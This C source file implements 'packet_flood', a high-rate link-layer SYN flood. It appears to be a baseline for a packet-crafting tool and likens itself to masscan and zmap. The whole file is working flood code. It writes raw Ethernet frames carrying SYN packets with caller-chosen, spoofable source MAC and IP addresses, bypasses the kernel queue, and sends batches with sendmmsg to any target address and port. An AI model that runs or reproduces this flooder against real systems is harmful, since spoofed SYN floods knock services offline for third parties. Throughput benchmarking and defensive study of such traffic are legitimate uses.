/*
 * Link-layer SYN flood: AF_PACKET, whole Ethernet frames, BATCH per
 * sendmmsg(2), PACKET_QDISC_BYPASS so frames go straight to the driver
 * (what masscan and zmap do through their own packet sockets). The
 * baseline of tcpcraft's link-layer path (`-I IFACE`).
 *
 *   packet_flood IFACE SRCMAC DSTMAC SRC DST DPORT COUNT [step]
 */
#include "flood.h" /* first: it defines _GNU_SOURCE */

#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#define FRAME_LEN (14 + IP_LEN + TCP_LEN)

static int parse_mac(const char *text, uint8_t mac[6]) {
  return sscanf(text, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1],
                &mac[2], &mac[3], &mac[4], &mac[5]) == 6;
}

/* IPv4 header: no options, ID 1, TTL 64, protocol TCP, with its checksum. */
static void build_ip(uint8_t *ip, struct in_addr src, struct in_addr dst) {
  memset(ip, 0, IP_LEN);
  ip[0] = 0x45;
  put16(ip + 2, IP_LEN + TCP_LEN);
  put16(ip + 4, 1);
  ip[8] = 64;
  ip[9] = 6;
  memcpy(ip + 12, &src, 4);
  memcpy(ip + 16, &dst, 4);
  put16(ip + 10, (uint16_t)~fold(sum_words(ip, IP_LEN, 0)));
}

int main(int argc, char **argv) {
  if (argc < 8) {
    fprintf(stderr,
            "usage: packet_flood IFACE SRCMAC DSTMAC SRC DST DPORT COUNT [step]\n");
    return 2;
  }
  uint8_t smac[6], dmac[6];
  struct in_addr src, dst;
  if (!parse_mac(argv[2], smac) || !parse_mac(argv[3], dmac) ||
      !inet_pton(AF_INET, argv[4], &src) || !inet_pton(AF_INET, argv[5], &dst)) {
    fprintf(stderr, "packet_flood: bad MAC or address\n");
    return 2;
  }
  uint16_t dport = (uint16_t)atoi(argv[6]);
  unsigned long count = strtoul(argv[7], NULL, 10);
  int step = argc > 8 && strcmp(argv[8], "step") == 0;
  int ifindex = (int)if_nametoindex(argv[1]);
  if (ifindex == 0) {
    perror("packet_flood: if_nametoindex");
    return 1;
  }

  int fd = socket(AF_PACKET, SOCK_RAW, htons(ETH_P_IP));
  if (fd < 0) {
    perror("packet_flood: socket");
    return 1;
  }
  int one = 1;
  if (setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof one) < 0) {
    perror("packet_flood: PACKET_QDISC_BYPASS");
    return 1;
  }
  struct sockaddr_ll to = {
      .sll_family = AF_PACKET,
      .sll_protocol = htons(ETH_P_IP),
      .sll_ifindex = ifindex,
      .sll_halen = 6,
  };
  memcpy(to.sll_addr, dmac, 6);

  static uint8_t frames[BATCH][FRAME_LEN];
  struct iovec iov[BATCH];
  struct mmsghdr msgs[BATCH];
  memset(msgs, 0, sizeof msgs);
  for (int i = 0; i < BATCH; i++) {
    uint8_t *f = frames[i];
    memcpy(f, dmac, 6);
    memcpy(f + 6, smac, 6);
    put16(f + 12, ETH_P_IP);
    build_ip(f + 14, src, dst);
    build_syn(f + 14 + IP_LEN, src, dst, 40000, dport, 1);
    if (step) step_syn(f + 14 + IP_LEN, (uint16_t)i);
    iov[i].iov_base = frames[step ? i : 0];
    iov[i].iov_len = FRAME_LEN;
    msgs[i].msg_hdr.msg_name = &to;
    msgs[i].msg_hdr.msg_namelen = sizeof to;
    msgs[i].msg_hdr.msg_iov = &iov[i];
    msgs[i].msg_hdr.msg_iovlen = 1;
  }

  double start = now_seconds();
  unsigned long sent = 0;
  while (sent < count) {
    unsigned int n = count - sent < BATCH ? (unsigned int)(count - sent) : BATCH;
    int done = sendmmsg(fd, msgs, n, 0);
    if (done < 0) {
      /* With the qdisc bypassed a full device queue says ENOBUFS: retry. */
      if (errno == ENOBUFS || errno == EAGAIN || errno == EINTR) continue;
      perror("packet_flood: sendmmsg");
      return 1;
    }
    sent += (unsigned long)done;
    if (step)
      for (int i = 0; i < BATCH; i++)
        step_syn(frames[i] + 14 + IP_LEN, (uint16_t)done);
  }
  report(sent, start);
  close(fd);
  return 0;
}
